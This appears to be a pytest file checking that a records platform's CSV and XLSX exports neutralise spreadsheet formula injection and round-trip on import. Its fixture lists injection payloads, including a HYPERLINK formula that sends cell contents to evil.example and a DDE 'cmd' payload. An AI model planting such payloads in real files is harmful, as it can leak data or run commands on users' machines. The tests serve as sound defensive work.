"""Exports a spreadsheet cannot run (OWASP CSV injection) and a clerk can read (labels beside codes),
and that import takes back unchanged."""

import csv
import io

import pytest
from openpyxl import load_workbook

from anjian import Actor
from anjian.data.query import ListQuery
from anjian.data.transfer import export_records, import_records, read_rows
from anjian.testing import entity_document, write_json

pytestmark = pytest.mark.postgres
ACTOR = Actor("exporter", is_admin=True)
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
]


def _export(platform, entity, fmt, **filters):
    out = io.BytesIO()
    spec = platform.registry.entity(entity)
    export_records(platform.records, entity, ListQuery.parse(spec, filters), fmt, out, ACTOR)
    return out.getvalue()


def _xlsx(data):
    sheet = load_workbook(io.BytesIO(data)).active
    return [[(c.value, c.data_type) for c in row] for row in sheet.iter_rows()]


def _csv(data):
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


@pytest.fixture
def ledger(platform, tmp_path):
    """An entity with a free text and a signed number, holding one record per formula payload."""
    folder = tmp_path / "decl"
    properties = {"title": {"type": "string", "title": "摘要"}, "amount": {"type": "number", "title": "金额"}}
    write_json(folder / "ledger.json", entity_document("ledger", properties))
    platform.publish([folder])
    for i, text in enumerate(PAYLOADS):
        platform.records.create("ledger", {"title": text, "amount": -5.5 if i == 2 else i}, ACTOR)
    return platform


def test_xlsx_cells_are_text_never_formulas_and_numbers_stay_numbers(ledger):
    rows = _xlsx(_export(ledger, "ledger", "xlsx", sort="id"))
    assert [v for v, _ in rows[0]] == ["id", "摘要", "金额"]
    for row, text in zip(rows[1:], PAYLOADS, strict=True):
        # never a formula ("f"); a lone CR survives with lxml (openpyxl escapes it), becomes LF without
        assert row[1] in {("'" + text, "s"), ("'" + text.replace("\r", "\n"), "s")}, text
    assert rows[3][2] == (-5.5, "n")  # a plain negative number stays a number


def test_csv_cells_starting_with_a_formula_trigger_are_quoted(ledger):
    rows = _csv(_export(ledger, "ledger", "csv", sort="id"))
    assert [r[1] for r in rows[1:]] == ["'" + t for t in PAYLOADS]
    assert rows[3][2] == "-5.5"


def test_an_exported_file_imports_again_with_the_same_values(ledger):
    table = ledger.registry.table("ledger")
    for fmt in ("xlsx", "csv"):
        data = _export(ledger, "ledger", fmt, sort="id")
        with ledger.engine.begin() as conn:  # import into an empty table
            conn.execute(table.delete())
        report = import_records(ledger.records, "ledger", read_rows(f"x.{fmt}", io.BytesIO(data)), ACTOR)
        assert report.committed and report.created == len(PAYLOADS), report.errors
        with ledger.engine.connect() as conn:
            stored = [(r.title, r.amount) for r in conn.execute(table.select().order_by(table.c.id))]
        # a text cell imports as typed (the verdict a single write gives); neither format keeps a lone CR
        lone_cr_as_lf = [(t.replace("\r", "\n"), -5.5 if i == 2 else i) for i, t in enumerate(PAYLOADS)]
        as_typed = [(t, -5.5 if i == 2 else i) for i, t in enumerate(PAYLOADS)]
        assert stored in (lone_cr_as_lf, as_typed), fmt


def test_exports_write_labels_with_the_codes_in_their_own_columns(published):
    county = published.records.create(
        "agency", {"name": "安溪县应急管理局", "level": "county", "kind": "authority", "region_code": "350524"}, ACTOR
    )
    published.records.create(
        "agency",
        {
            "name": "凤城镇安监站",
            "level": "township",
            "kind": "township_office",
            "region_code": "350524100000",
            "parent_agency_id": county["id"],
        },
        ACTOR,
    )
    for fmt in ("xlsx", "csv"):
        data = _export(published, "agency", fmt, sort="id")
        rows = [[v for v, _ in r] for r in _xlsx(data)] if fmt == "xlsx" else _csv(data)
        header, town = rows[0], dict(zip(rows[0], rows[2], strict=True))
        assert header[:5] == ["id", "机构名称", "简称", "机构类型", "机构类型（代码）"]
        assert town["机构类型"] == "乡镇安监站（所）" and town["机构类型（代码）"] == "township_office"
        assert town["所在行政区划"] == "凤城镇" and town["所在行政区划（代码）"] == "350524100000"
        assert town["上级机构"] == "安溪县应急管理局" and str(town["上级机构（代码）"]) == str(county["id"])


def test_labels_and_codes_import_again(published):
    test_exports_write_labels_with_the_codes_in_their_own_columns(published)
    table = published.registry.table("agency")
    for fmt in ("xlsx", "csv"):
        data = _export(published, "agency", fmt, sort="id")
        with published.engine.begin() as conn:
            conn.execute(table.update().values(parent_agency_id=None))
            conn.execute(table.delete().where(table.c.level == "township"))
        rows = list(read_rows(f"x.{fmt}", io.BytesIO(data)))
        report = import_records(published.records, "agency", [rows[0], rows[2]], ACTOR)
        assert report.committed and report.created == 1, report.errors
        with published.engine.connect() as conn:
            town = conn.execute(table.select().where(table.c.level == "township")).one()
        assert (town.kind, town.region_code, town.parent_agency_id) == ("township_office", "350524100000", int(rows[1][0]))
